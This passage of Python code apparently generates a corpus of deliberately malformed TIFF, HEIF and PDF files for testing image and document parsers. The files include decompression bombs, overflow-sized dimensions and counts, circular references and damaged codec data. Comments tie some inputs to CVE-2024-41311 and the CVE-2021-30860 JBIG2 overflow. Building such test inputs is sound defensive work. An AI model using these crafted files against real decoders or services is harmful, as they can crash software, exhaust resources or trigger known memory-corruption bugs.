    palette = (3, [0] * 768)
    shape("tiff-palette", tiff(grey(t262=(3, [3]), t320=palette)))
    shape("tiff-no-palette", tiff(grey(t262=(3, [3]))))
    shape("tiff-palette-too-short", tiff(grey(t262=(3, [3]), t320=(3, [0] * 3))))
    shape("tiff-palette-of-16-bits", tiff(grey(t258=(3, [16]), t262=(3, [3]), t320=palette)))
    shape("tiff-photometric-of-no-kind", tiff(grey(t262=(3, [65535]))))
    colours = dict(t277=(3, [3]), t258=(3, [8] * 3))
    for name, sampling in [("0", [0, 0]), ("255", [255, 255]), ("4-2", [4, 2]), ("1-4", [1, 4])]:
        shape(f"tiff-ycbcr-sampled-{name}", tiff(grey(15, 15, t262=(3, [6]), t530=(3, sampling), **colours)))
    shape("tiff-lab", tiff(grey(t262=(3, [8]), **colours)))
    shape("tiff-lab-of-one", tiff(grey(t262=(3, [8]))))
    shape("tiff-cmyk-of-one", tiff(grey(t262=(3, [5]), t332=(3, [7]), t334=(3, [65535]))))
    shape("tiff-extra-samples-beyond", tiff(grey(t338=(3, [1] * 999), **{**colours, "t262": (3, [2])})))
    shape("tiff-thresholded", tiff(grey(t262=(3, [1]), t263=(3, [3]), t280=(3, [65535]), t281=(3, [0]))))
    # The packings, each with bytes that are not its own.
    noise = bytes(place * 167 % 256 for place in range(4096))
    for name, number in [
        ("ccitt-rle", 2), ("ccitt-3", 3), ("ccitt-4", 4), ("lzw", 5), ("old-jpeg", 6), ("jpeg", 7), ("deflate", 8),
        ("next", 32766), ("ccitt-words", 32771), ("packbits", 32773), ("thunderscan", 32809), ("pixar-film", 32908),
        ("pixar-log", 32909), ("old-deflate", 32946), ("jbig", 34661), ("sgi-log", 34676), ("sgi-log-24", 34677),
        ("lerc", 34887), ("lzma", 34925), ("zstd", 50000), ("webp", 50001), ("nothing-known", 65535),
    ]:
        more = dict(t258=(3, [1])) if number in (2, 3, 4, 32771, 34661) else {}
        more = dict(t258=(3, [4])) if number == 32809 else dict(t258=(3, [2])) if number == 32766 else more
        more = dict(t262=(3, [32844]), t258=(3, [16])) if number == 34676 else more
        shape(f"tiff-packed-as-{name}", tiff(grey(64, 64, number, **more), data=noise))
    luv = dict(t262=(3, [32845]), t258=(3, [16] * 3), t277=(3, [3]))
    runs = b"\xff\x42" * 2048
    shape("tiff-logluv-bomb", tiff(grey(4000, 4000, 34676, **luv), data=runs))
    shape("tiff-logluv-24-bomb", tiff(grey(4000, 4000, 34677, **luv), data=runs))
    shape("tiff-logluv-of-one", tiff(grey(16, 16, 34676, t262=(3, [32845]), t258=(3, [16])), data=runs))
    shape("tiff-logluv-in-planes", tiff(grey(16, 16, 34676, t284=(3, [2]), **luv), data=runs))
    packed = deflated_zeros(900)
    for name, number in [("pixar-log", 32909), ("deflate", 8)]:
        one = grey(3000, 3000, number, len(packed))
        shape(f"tiff-{name}-bomb", tiff(one, data=packed))
    shape("tiff-pixar-log-row-of-4-giga", tiff(grey(0x3FFFFFFF, 1, 32909, len(packed)), data=packed))
    shape("tiff-deflate-with-predictor", tiff(grey(64, 64, 8, 999, t317=(3, [2])), data=deflated_zeros(1)))
    shape("tiff-predictor-of-no-kind", tiff(grey(64, 64, 5, t317=(3, [65535])), data=noise))
    reals = dict(t258=(3, [32]), t339=(3, [3]), t317=(3, [3]))
    shape("tiff-predictor-of-reals", tiff(grey(64, 64, 8, 999, **reals), data=deflated_zeros(1)))
    for name, number in [("3", 3), ("4", 4)]:
        shape(f"tiff-ccitt-{name}-huge", tiff(grey(4000, 4000, number, t258=(3, [1])), data=bytes(4096)))
    inner = jpeg(32, 32)
    shape("tiff-jpeg", tiff(grey(32, 32, 7, len(inner)), data=inner))
    for name, size in [("smaller", 16), ("larger", 4000), ("of-65535", 65535)]:
        other = jpeg(size, size)
        shape(f"tiff-jpeg-{name}", tiff(grey(32, 32, 7, len(other)), data=other))
    other = jpeg(32, 32, 3)
    shape("tiff-jpeg-of-more-components", tiff(grey(32, 32, 7, len(other)), data=other))
    shape("tiff-jpeg-of-fewer-components", tiff(grey(32, 32, 7, len(inner), t262=(3, [6]), **colours), data=inner))
    shape("tiff-jpeg-tables-beyond", tiff(grey(32, 32, 7, len(inner), t347=(7, inner[:9] + b"\xff" * 99)), data=inner))
    old = dict(t512=(3, [1]), t513=(4, [8]), t514=(4, [0xFFFFFFFF]), t262=(3, [6]), **colours)
    shape("tiff-old-jpeg", tiff(grey(32, 32, 6, len(other), **old), data=other))
    tables = dict(t519=(4, [8] * 3), t520=(4, [0xFFFFFFF0] * 3), t521=(4, [8] * 3), t512=(3, [14]), t515=(3, [0]))
    shape("tiff-old-jpeg-tables-beyond", tiff(grey(32, 32, 6, len(other), t262=(3, [6]), **tables, **colours), data=other))
    big = b"II+\0" + le16(8, 0) + le64(16)
    entries = [(256, 4, 1, 16), (257, 4, 1, 16), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 16, 1, 1 << 63)]
    entries += [(279, 16, 1, (1 << 64) - 1)]
    packed_entries = b"".join(le16(tag, kind) + le64(count, value) for tag, kind, count, value in entries)
    shape("tiff-big-of-64-bits", big + le64(len(entries)) + packed_entries + le64(16))
    shape("tiff-big-of-endless-entries", big + le64((1 << 64) - 1) + packed_entries)
    shape("tiff-big-of-offsets-of-9", b"II+\0" + le16(9, 0) + le64(16) + bytes(99))


# ---- HEIF

# One colour, 64 x 64 pixels, in HEVC.
hevc_setup = bytes.fromhex(
    "0103700000000000000000001ef000fcfdf8f800000f03200001001840010c01ffff03700000030090000003000003001eba02402100010028420101"
    "03700000030090000003000003001ea020810596ea4929ae6c08000003000800000300084022000100074401c172b02240"
)
hevc_picture = bytes.fromhex("000000182801af1380e533c09fffe25a8fff63dcf0faf54eb543d4f8")


def box(name, content=b"", size=None):
    return be32(len(content) + 8 if size is None else size) + name + content


def full_box(name, content, version=0, flags=0):
    return box(name, u8(version) + be32(flags)[1:] + content)


def iinf(items, count=None):
    parts = b"".join(full_box(b"infe", be16(number, 0) + kind + b"\0", 2) for number, kind in items)
    return full_box(b"iinf", be16(len(items) if count is None else count) + parts)


def iloc(items):
    """(number, construction method, offset, length)."""
    parts = b"".join(be16(number, method, 0, 1) + be32(offset, length) for number, method, offset, length in items)
    return full_box(b"iloc", u8(0x44, 0) + be16(len(items)) + parts, 1)


def ispe(width, height):
    return full_box(b"ispe", be32(width, height))


def ipma(items):
    parts = b"".join(be16(number) + u8(len(places)) + u8(*places) for number, places in items)
    return full_box(b"ipma", be32(len(items)) + parts)


def iprp(properties, associations):
    return box(b"iprp", box(b"ipco", b"".join(properties)) + b"".join(associations))


def heif(items=((1, b"hvc1"),), places=None, properties=None, associations=None, references=b"", idat=b"", primary=1,
         data=hevc_picture, more=b"", brand=b"heic"):
    """`places` gets the place of the data."""
    begin = box(b"ftyp", brand + bytes(4) + b"mif1" + brand)
    properties = [box(b"hvcC", hevc_setup), ispe(64, 64)] if properties is None else properties
    associations = [ipma([(1, [1, 2])])] if associations is None else associations
    places = (lambda place: [(1, 0, place, len(data))]) if places is None else places

    def meta(place):
        content = full_box(b"hdlr", be32(0) + b"pict" + bytes(13)) + full_box(b"pitm", be16(primary))
        content += iloc(places(place)) + iinf(items) + references + iprp(properties, associations)
        return full_box(b"meta", content + (box(b"idat", idat) if idat else b"") + more)

    place = len(begin) + len(meta(0)) + 8
    return begin + meta(place) + box(b"mdat", data)


def grid(rows, columns, width, height, large=False):
    sizes = be32(width, height) if large else be16(width, height)
    return u8(0, 1 if large else 0, rows - 1, columns - 1) + sizes


def derived(kind, content, sources, also=(), references=None, size=(128, 64), extra=()):
    """Item 2, the primary one, is made of others; item 1 is a picture."""
    references = box(b"dimg", be16(2, len(sources), *sources)) if references is None else references
    return heif(
        items=((1, b"hvc1"), (2, kind)) + tuple(also),
        places=lambda place: [(1, 0, place, len(hevc_picture)), (2, 1, 0, len(content))] + [(n, 1, 0, len(content)) for n, _ in also],
        properties=[box(b"hvcC", hevc_setup), ispe(64, 64), ispe(*size)] + list(extra),
        associations=[ipma([(1, [1, 2]), (2, [3] + [4 + n for n in range(len(extra))])] + [(n, [3]) for n, _ in also])],
        references=full_box(b"iref", references), idat=content, primary=2,
    )


def heif_shapes():
    shape("heif-whole", heif())
    shape("heif-grid", derived(b"grid", grid(1, 2, 128, 64), [1, 1]))
    shape("heif-grid-of-itself", derived(b"grid", grid(1, 2, 128, 64), [2, 2]))
    loop = box(b"dimg", be16(2, 2, 3, 3)) + box(b"dimg", be16(3, 2, 2, 2))
    shape("heif-grids-of-each-other", derived(b"grid", grid(1, 2, 128, 64), [], [(3, b"grid")], loop))
    shape("heif-grid-of-65536", derived(b"grid", grid(256, 256, 16384, 16384), [1] * 65535, size=(16384, 16384)))
    shape("heif-grid-of-900", derived(b"grid", grid(30, 30, 1920, 1920), [1] * 900, size=(1920, 1920)))
    shape("heif-grid-of-4-giga", derived(b"grid", grid(1, 2, 0xFFFFFFFF, 0xFFFFFFFF, True), [1, 1]))
    shape("heif-grid-of-another-size", derived(b"grid", grid(1, 2, 1000, 1000), [1, 1]))
    shape("heif-grid-without-sources", derived(b"grid", grid(1, 2, 128, 64), []))
    shape("heif-grid-of-what-is-not-there", derived(b"grid", grid(1, 2, 128, 64), [77, 78]))
    shape("heif-grid-cut", derived(b"grid", b"\0\0", [1, 1]))
    shape("heif-overlay", derived(b"iovl", u8(0, 0) + be16(0, 0, 0, 0, 128, 64, 0, 0, 64, 0), [1, 1]))
    # CVE-2024-41311: places of which nothing lies within.
    shape("heif-overlay-outside", derived(b"iovl", u8(0, 1) + be16(*[65535] * 4) + be32(128, 64, 1 << 31, 1 << 31, -1, -1), [1, 1]))
    shape("heif-overlay-of-itself", derived(b"iovl", u8(0, 0) + be16(0, 0, 0, 0, 128, 64, 0, 0, 64, 0), [2, 2]))
    shape("heif-overlay-of-4-giga", derived(b"iovl", u8(0, 1) + be16(0, 0, 0, 0) + be32(0xFFFFFFFF, 0xFFFFFFFF, 0, 0, 0, 0), [1, 1]))
    shape("heif-identity", derived(b"iden", b"", [1], size=(64, 64)))
    shape("heif-identity-of-itself", derived(b"iden", b"", [2], size=(64, 64)))
    chain = tuple((n, b"iden") for n in range(3, 3000))
    references = b"".join(box(b"dimg", be16(n, 1, n + 1)) for n in range(2, 2999)) + box(b"dimg", be16(2999, 1, 1))
    shape("heif-identities-3000-deep", derived(b"iden", b"", [], chain, references, (64, 64)))
    doubling = tuple((n, b"grid") for n in range(3, 30))
    references = b"".join(box(b"dimg", be16(n, 2, n + 1, n + 1)) for n in range(2, 29)) + box(b"dimg", be16(29, 2, 1, 1))
    shape("heif-grids-of-2-to-the-28th", derived(b"grid", grid(1, 2, 128, 64), [], doubling, references))
    setup = box(b"hvcC", hevc_setup)
    shape("heif-4-giga-wide", heif(properties=[setup, ispe(0xFFFFFFFF, 0xFFFFFFFF)]))
    shape("heif-no-size", heif(properties=[setup, ispe(0, 0)]))
    shape("heif-said-larger", heif(properties=[setup, ispe(14000, 14000)]))
    shape("heif-said-smaller", heif(properties=[setup, ispe(16, 16)]))
    shape("heif-without-setup", heif(properties=[ispe(64, 64), ispe(64, 64)]))
    shape("heif-setup-cut", heif(properties=[box(b"hvcC", hevc_setup[:30]), ispe(64, 64)]))
    shape("heif-setup-of-255-arrays", heif(properties=[box(b"hvcC", hevc_setup[:22] + b"\xff" * 99), ispe(64, 64)]))
    wide = bytearray(hevc_setup)
    wide[75:79] = b"\xff\xff\xff\xff"
    shape("heif-setup-damaged", heif(properties=[box(b"hvcC", bytes(wide)), ispe(64, 64)]))
    shape("heif-property-beyond", heif(associations=[ipma([(1, [1, 2, 127])])]))
    shape("heif-property-0", heif(associations=[ipma([(1, [0, 0x80])])]))
    shape("heif-associations-of-no-item", heif(associations=[ipma([(n, [1, 2]) for n in range(5000)])]))
    shape("heif-associations-of-4-giga", heif(associations=[full_box(b"ipma", be32(0xFFFFFFFF) + be16(1) + u8(2, 1, 2))]))
    shape("heif-data-beyond", heif(places=lambda place: [(1, 0, 0x7FFFFFFF, 0x7FFFFFFF)]))
    shape("heif-data-around-the-end", heif(places=lambda place: [(1, 0, 0xFFFFFFFF, 0xFFFFFFFF)]))
    shape("heif-data-of-none", heif(places=lambda place: [(1, 0, place, 0)]))
    shape("heif-data-in-a-box-that-is-not-there", heif(places=lambda place: [(1, 1, 0, 100)]))
    shape("heif-data-in-itself", heif(places=lambda place: [(1, 2, 0, 100)], references=full_box(b"iref", box(b"iloc", be16(1, 1, 1)))))
    extents = be16(1, 0, 0, 40000) + be32(0, 400) * 40000
    piece = full_box(b"iloc", u8(0x44, 0) + be16(1) + extents, 1)
    shape("heif-two-lists-of-places", heif(more=piece))
    shape("heif-nal-of-4-giga", heif(data=b"\xff\xff\xff\xff" + hevc_picture[4:]))
    shape("heif-nal-of-none", heif(data=bytes(4) * 1000))
    shape("heif-picture-cut", heif(data=hevc_picture[:12]))
    shape("heif-picture-damaged", heif(data=hevc_picture[:8] + b"\xff" * 16))
    shape("heif-two-pictures-in-one", heif(data=hevc_picture * 300))
    shape("heif-30000-items", heif(items=tuple((n, b"hvc1") for n in range(1, 30000))))
    shape("heif-same-item-again", heif(items=((1, b"hvc1"),) * 1000))
    shape("heif-no-primary-item", heif(primary=77))
    shape("heif-av1", heif(items=((1, b"av01"),)))
    shape("heif-jpeg", heif(items=((1, b"jpeg"),), data=jpeg(64, 64)))
    shape("heif-raw", heif(items=((1, b"unci"),), data=bytes(64)))
    clap = box(b"clap", be32(1, 0, 1, 0, 1, 0, 1, 0))
    shape("heif-cropped-by-nothing", heif(properties=[setup, ispe(64, 64), clap], associations=[ipma([(1, [1, 2, 3])])]))
    clap = box(b"clap", be32(1, 1, 1, 1, -1, 1, -1, 1))
    shape("heif-cropped-outside", heif(properties=[setup, ispe(64, 64), clap], associations=[ipma([(1, [1, 2, 3])])]))
    clap = box(b"clap", be32(32, 1, 32, 1, 0, 1, 0, 1))
    shape("heif-cropped", heif(properties=[setup, ispe(64, 64), clap], associations=[ipma([(1, [1, 2, 3])])]))
    turn = box(b"irot", u8(1))
    shape("heif-turned-100-times", heif(properties=[setup, ispe(64, 64), turn], associations=[ipma([(1, [1, 2] + [3] * 100)])]))
    mask = full_box(b"iref", box(b"auxl", be16(1, 1, 1)))
    kind = full_box(b"auxC", b"urn:mpeg:hevc:2015:auxid:1\0")
    shape("heif-opacity-of-itself", heif(properties=[setup, ispe(64, 64), kind], associations=[ipma([(1, [1, 2, 3])])], references=mask))
    shape("heif-small-picture-of-itself", heif(references=full_box(b"iref", box(b"thmb", be16(1, 1, 1)))))
    colr = box(b"colr", b"prof" + icc(offset=0xFFFFFFF0))
    shape("heif-profile-beyond", heif(properties=[setup, ispe(64, 64), colr], associations=[ipma([(1, [1, 2, 3])])]))
    shape("heif-references-beyond", heif(references=full_box(b"iref", box(b"dimg", be16(1, 65535, 1)))))
    whole = heif()
    shape("heif-box-of-4-giga", whole[:28] + be32(0xFFFFFFFF) + whole[32:])
    shape("heif-box-of-64-bits", whole[:28] + be32(1) + b"meta" + be64((1 << 64) - 1) + whole[36:])
    shape("heif-box-to-the-end", whole[:28] + be32(0) + whole[32:])
    nested = b""
    for _ in range(3000):
        nested = box(b"ipco", nested)
    shape("heif-boxes-3000-deep", heif(more=box(b"iprp", nested)))
    shape("heif-brand-alone", box(b"ftyp", b"heic" + bytes(4)))


# ---- PDF


def stream(content, words=b""):
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), words, content)


def document(objects, trailer=b"", version=b"1.7"):
    """Of these objects, numbered from 1 on; the first is the catalog."""
    body, places = b"%PDF-" + version + b"\n", []
    for number, content in enumerate(objects):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number + 1, content)
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % place for place in places)
    return body + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)


def page(content, resources=b"", *more, catalog=b"", words=b"", trailer=b"", box=b"[0 0 200 200]"):
    """A document of one page, whose further objects are numbered from 5 on."""
    return document(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R /Resources << %s >> %s >>" % (box, resources, words),
            stream(content),
            *more,
        ],
        trailer,
    )


def picture(data, width=64, height=64, words=b"", colours=b"/DeviceGray", bits=8, *more):
    said = b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent %d /ColorSpace %s " % (width, height, bits, colours)
    return page(b"200 0 0 200 0 0 cm /I1 Do", b"/XObject << /I1 5 0 R >>", stream(data, said + words), *more)


def predicted(colours, columns, bits=8, predictor=15):
    parameters = b"/DecodeParms << /Predictor %d /Colors %d /Columns %d /BitsPerComponent %d >>" % (predictor, colours, columns, bits)
    return picture(zlib.compress(bytes(8192)), words=b"/Filter /FlateDecode " + parameters)


def jbig2_segment(number, kind, content, referred=(), page=1, length=None):
    if len(referred) <= 4:
        begins = u8(len(referred) << 5)
    else:
        begins = be32(7 << 29 | len(referred)) + bytes((len(referred) + 8) // 8)
    size = 1 if number <= 256 else 2 if number <= 65536 else 4
    names = b"".join(other.to_bytes(size, "big") for other in referred)
    return be32(number) + u8(kind) + begins + names + u8(page) + be32(len(content) if length is None else length) + content


def jbig2_page(width=64, height=64):
    return jbig2_segment(0, 48, be32(width, height, 0, 0) + u8(0) + be16(0))


def jbig2_range(bits, number):
    """By table B.1."""
    if number < 16:
        bits.code("0").put(number, 4)
    elif number < 272:
        bits.code("10").put(number - 16, 8)
    elif number < 65808:
        bits.code("110").put(number - 272, 16)
    else:
        bits.code("111").put(number - 65808, 32)


def jbig2_symbols(number, known, new, exported, referred=()):
    """A dictionary in Huffman codes: symbols of one pixel each, and all that are known to it."""
    bits = Bits()
    if new:
        bits.code("0")
        for _ in range(new):
            bits.code("10")
        bits.code("111111")
        jbig2_range(bits, 0)
        bits.end()
        bits.put(0xFF << (8 * ((new + 7) // 8 - 1)), 8 * ((new + 7) // 8))
    jbig2_range(bits, 0)
    jbig2_range(bits, exported)
    return jbig2_segment(number, 0, be16(1) + be32(exported, new) + bits.bytes() + bytes(8), referred)


def jbig2_text(number, count, referred, width=64, height=64):
    region = be32(width, height, 0, 0) + u8(0)
    return jbig2_segment(number, 6, region + be16(1 | 2 << 4) + be16(0) + be32(count) + b"\x11" * 200, referred)


def jbig2(*segments, width=64, height=64):
    return picture(b"".join(segments), width, height, b"/Filter /JBIG2Decode", bits=1)


def j2k(width=64, height=64, components=1, tiles=None, levels=0, layers=1, body=None, bits=7, parts=1, sampling=1, tile=0,
        other_components=None):
    """Even grey: every packet is empty."""
    tile_width, tile_height = tiles or (width, height)
    size = be16(0) + be32(width, height, 0, 0, tile_width, tile_height, 0, 0)
    size += be16(components if other_components is None else other_components) + u8(bits, sampling, sampling) * components
    coding = u8(0, 0) + be16(layers) + u8(0, levels, 4, 4, 0, 1)
    steps = u8(0x40) + u8(0x40) * (3 * levels + 1)
    body = bytes(components * layers * (levels + 1)) if body is None else body
    begins = b"\xff\x4f" + segment(0x51, size) + segment(0x52, coding) + segment(0x5C, steps)
    part = u8(0xFF, 0x90) + be16(10, tile) + be32(14 + len(body)) + u8(0, 1) + u8(0xFF, 0x93) + body
    return begins + part * parts + b"\xff\xd9"


def cff_index(*items):
    if not items:
        return be16(0)
    places, place = [1], 1
    for item in items:
        place += len(item)
        places.append(place)
    return be16(len(items)) + u8(4) + be32(*places) + b"".join(items)


def cff_number(number):
    return u8(29) + be32(number)


def cff(glyphs, local=(), common=(), charstrings=None):
    """A font of these charstrings, the first of which is for what is not there."""
    def top(characters, private):
        return cff_number(characters) + u8(17) + cff_number(len(private_dict)) + cff_number(private) + u8(18)

    private_dict = cff_number(6) + u8(19)
    strings, names = cff_index(), cff_index(b"Hostile")
    global_index, glyph_index = cff_index(*common), cff_index(*glyphs)
    size = len(top(0, 0))
    place = 4 + len(names) + (2 + 1 + 8 + size) + len(strings) + len(global_index)
    content = top(place if charstrings is None else charstrings, place + len(glyph_index))
    header = u8(1, 0, 4, 4) + names + cff_index(content) + strings + global_index
    return header + glyph_index + private_dict + cff_index(*local)


def embedded(font, kind=b"Type1", file=b"/FontFile3 7 0 R", words=b"/Subtype /Type1C", more=b""):
    descriptor = b"<< /Type /FontDescriptor /FontName /Hostile /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 " \
        b"/Descent 0 /CapHeight 700 /StemV 80 %s >>" % file
    said = b"<< /Type /Font /Subtype /%s /BaseFont /Hostile /FirstChar 0 /LastChar 255 /FontDescriptor 6 0 R %s >>" % (kind, more)
    return page(b"BT /F1 50 Tf 10 50 Td (ABC\\000\\001\\002) Tj ET", b"/Font << /F1 5 0 R >>", said, descriptor, stream(font, words))


def sfnt(**tables):
    """TrueType of these tables; cvt_ is `cvt `."""
    head = be32(0x10000, 0x10000, 0, 0x5F0F3CF5) + be16(0, 1000) + bytes(16) + be16(0, 0, 1000, 1000, 0, 8, 2, 1, 0)
    hhea = be32(0x10000) + be16(800, -200, 0, 1000, 0, 0, 1000, 1, 0, 0, 0, 0, 0, 0, 0, 2)
    maxp = be32(0x10000) + be16(2, 100, 10, 100, 10, 2, 10, 10, 64, 10, 256, 1000, 5, 5)
    cmap = be16(0, 1, 1, 0) + be32(12) + be16(0, 262, 0) + bytes([0] + [1] * 255)
    outline = be16(1, 0, 0, 500, 500, 2, 0) + u8(1, 1, 1) + be16(0, 500, 0) + be16(0, 0, 500)
    content = {
        "head": head, "hhea": hhea, "maxp": maxp, "cmap": cmap, "hmtx": be16(500, 0, 500, 0), "loca": be32(0, 0, len(outline)),
        "glyf": outline,
    }
    content.update(tables)
    content = {name.replace("_", " "): table for name, table in content.items() if table is not None}
    result, place = be32(0x10000) + be16(len(content), 128, 3, 64), 12 + 16 * len(content)
    for name, table in sorted(content.items()):
        result += name.encode() + be32(0, place, len(table))
        place += len(table)
    return result + b"".join(table for _, table in sorted(content.items()))


def truetype(font):
    return embedded(font, b"TrueType", b"/FontFile2 7 0 R", b"")


def type1_hidden(content, key):
    result = bytearray()
    for byte in content:
        hidden = byte ^ key >> 8
        key = ((hidden + key) * 52845 + 22719) & 0xFFFF
        result.append(hidden)
    return bytes(result)


def type1(glyph, subroutines=(), before=b"", private=b""):
    def charstring(content):
        hidden = type1_hidden(bytes(4) + content, 4330)
        return b"%d RD %s" % (len(hidden), hidden)

    public = b"%!PS-AdobeFont-1.0: Hostile\n/FontName /Hostile def /FontType 1 def /PaintType 0 def " \
        b"/FontMatrix [0.001 0 0 0.001 0 0] def /FontBBox {0 0 1000 1000} def /Encoding StandardEncoding def\n" + before + \
        b"\ncurrentfile eexec\n"
    body = b"dup /Private 8 dict dup begin /RD {string currentfile exch readstring pop} executeonly def /ND {def} def /NP {put} def " \
        b"/lenIV 4 def /password 5839 def %s\n/Subrs %d array\n" % (private, len(subroutines))
    for number, content in enumerate(subroutines):
        body += b"dup %d %s NP\n" % (number, charstring(content))
    body += b"ND\n2 index /CharStrings 2 dict dup begin\n/.notdef %s ND\n/A %s ND\nend end\nreadonly put " \
        b"mark currentfile closefile\n" % (charstring(u8(139, 139, 13, 14)), charstring(glyph))
    hidden = type1_hidden(bytes(4) + body, 55665)
    end = b"0" * 512 + b"\ncleartomark\n"
    words = b"/Length1 %d /Length2 %d /Length3 %d" % (len(public), len(hidden), len(end))
    return embedded(public + hidden + end, b"Type1", b"/FontFile 7 0 R", words)


def shading(dictionary, *more, data=None):
    found = stream(data, dictionary) if data is not None else b"<< %s >>" % dictionary
    return page(b"/S1 sh", b"/Shading << /S1 5 0 R >>", found, *more)


def pattern(words, content=b"0 0 1 1 re f", resources=b"", matrix=b"", *more):
    said = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /Resources << %s >> %s %s" % (resources, words, matrix)
    return page(b"/Pattern cs /P1 scn 0 0 200 200 re f", b"/Pattern << /P1 5 0 R >>", stream(content, said), *more)


def calculated(content):
    function = stream(content, b"/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]")
    dictionary = b"/ShadingType 2 /ColorSpace /DeviceRGB /Coords [0 0 200 200] /Function 6 0 R /Extend [true true]"
    return shading(dictionary, function)


def xref_stream(rows, words=b"", widths=b"[1 2 1]", size=None, objects=b"", encoded=None):
    """A document that ends in such a stream; `rows` of 1, 2 and 1 bytes."""
    body = b"%PDF-1.7\n" + objects
    data = b"".join(u8(kind) + be16(place) + u8(number) for kind, place, number in rows) if encoded is None else encoded
    said = b"/Type /XRef /W %s /Size %d /Root 1 0 R %s" % (widths, len(rows) if size is None else size, words)
    return body + b"9 0 obj\n" + stream(data, said) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def hidden_document(words, key=b"(%s)" % (b"x" * 32)):
    encryption = b"<< /Filter /Standard %s /O %s /U %s /P -44 >>" % (words, key, key)
    text, font = b"BT /F1 9 Tf (Word) Tj ET", b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    trailer = b"/Encrypt 6 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]"
    return page(text, b"/Font << /F1 5 0 R >>", font, encryption, trailer=trailer)


def pdf_shapes():
    helvetica = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica %s >>"
    shape("pdf-whole", page(b"0 0 100 100 re f"))
    # What is predicted.
    for colours, columns, bits in [
        (1, 2147483647, 8), (2147483647, 1, 8), (65535, 65535, 16), (-1, -1, 8), (0, 0, 8), (4, 1073741824, 16), (32, 100000000, 16),
    ]:
        shape(f"pdf-predictor-of-{colours}-colours-{columns}-columns", predicted(colours, columns, bits))
    shape("pdf-tiff-predictor-of-999-bits", predicted(4, 64, 999, 2))
    shape("pdf-predictor-of-no-kind", predicted(1, 64, 8, -77))
    shape("pdf-lzw-early", picture(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 9, words=b"/Filter /LZWDecode /DecodeParms << /EarlyChange -1 >>"))
    # Filters.
    shape("pdf-deflate-bomb", picture(deflated_zeros(3000), 3000, 3000, b"/Filter /FlateDecode"))
    twice = zlib.compress(deflated_zeros(3000), 9)
    shape("pdf-deflate-bomb-within-another", picture(twice, 3000, 3000, b"/Filter [/FlateDecode /FlateDecode]"))
    shape("pdf-content-of-gibibytes", page(b"", b"").replace(stream(b""), stream(deflated_zeros(2500), b"/Filter /FlateDecode"), 1))
    shape("pdf-thousand-filters", picture(b"41>" * 9, words=b"/Filter [" + b"/ASCIIHexDecode " * 1000 + b"]"))
    shape("pdf-runs", picture(b"\x81\xff" * 60000, 4000, 1000, b"/Filter /RunLengthDecode"))
    shape("pdf-filter-that-is-the-stream", picture(b"x", words=b"/Filter 5 0 R /DecodeParms 5 0 R"))
    shape("pdf-crypt-filter", picture(b"x", words=b"/Filter [/Crypt /Crypt /Crypt]"))
    for name, words in [
        ("rows-below-0", b"/K -1 /Rows -1 /Columns 64"), ("columns-of-2-giga", b"/K -1 /Rows 64 /Columns 2147483647"),
        ("columns-below-0", b"/K 0 /Columns -2147483648"), ("no-columns", b"/K 4 /Columns 0 /Rows 0"),
        ("damage-below-0", b"/K 4 /Columns 64 /DamagedRowsBeforeError -1 /EndOfBlock false /EncodedByteAlign true"),
    ]:
        shape(f"pdf-ccitt-{name}", picture(b"\x26\xa1\x55\x00\x10\x01" * 700, bits=1, words=b"/Filter /CCITTFaxDecode /DecodeParms << %s >>" % words))
    # JBIG2. CVE-2021-30860: the numbers of the symbols that a text refers to are more together than a number holds.
    first = jbig2_symbols(1, 0, 1, 1)
    shape("pdf-jbig2-symbols", jbig2(jbig2_page(), first, jbig2_text(2, 1, [1])))
    doubled = [jbig2_page(), first] + [jbig2_symbols(n, 1 << (n - 1), 0, 1 << (n - 1), [n - 1, n - 1]) for n in range(2, 34)]
    shape("pdf-jbig2-symbols-of-4-giga", jbig2(*doubled, jbig2_text(40, 1, [33, 33, 1])))
    few = doubled[:12]
    shape("pdf-jbig2-symbols-summed-beyond", jbig2(*few, jbig2_text(400, 1, [11] * 2000)))
    shape("pdf-jbig2-symbols-said-4-giga", jbig2(jbig2_page(), jbig2_symbols(1, 0, 1, 0xFFFFFFFF), jbig2_text(2, 1, [1])))
    said = jbig2_segment(1, 0, be16(1) + be32(1, 0xFFFFFFFF) + bytes(99))
    shape("pdf-jbig2-new-symbols-of-4-giga", jbig2(jbig2_page(), said))
    arithmetic = jbig2_segment(1, 0, be16(0) + u8(3, 255, 253, 255, 2, 254, 254, 254) + be32(100, 100) + bytes(range(256)) * 4)
    shape("pdf-jbig2-arithmetic-symbols", jbig2(jbig2_page(), arithmetic, jbig2_text(2, 9, [1])))
    refined = jbig2_segment(1, 0, be16(2) + u8(3, 255, 253, 255, 2, 254, 254, 254, 255, 255, 255, 255) + be32(9, 9) + bytes(range(256)) * 4)
    shape("pdf-jbig2-refined-symbols", jbig2(jbig2_page(), first, refined))
    shape("pdf-jbig2-refers-to-itself", jbig2(jbig2_page(), jbig2_symbols(1, 0, 0, 0, [1]), jbig2_text(2, 1, [2, 2])))
    shape("pdf-jbig2-text-of-4-giga", jbig2(jbig2_page(), first, jbig2_text(2, 0xFFFFFFFF, [1])))
    shape("pdf-jbig2-region-of-4-giga", jbig2(jbig2_page(), first, jbig2_text(2, 1, [1], 0xFFFFFFFF, 0xFFFFFFFF)))
    shape("pdf-jbig2-page-of-4-giga", jbig2(jbig2_page(0xFFFFFFFF, 0xFFFFFFFF), first))
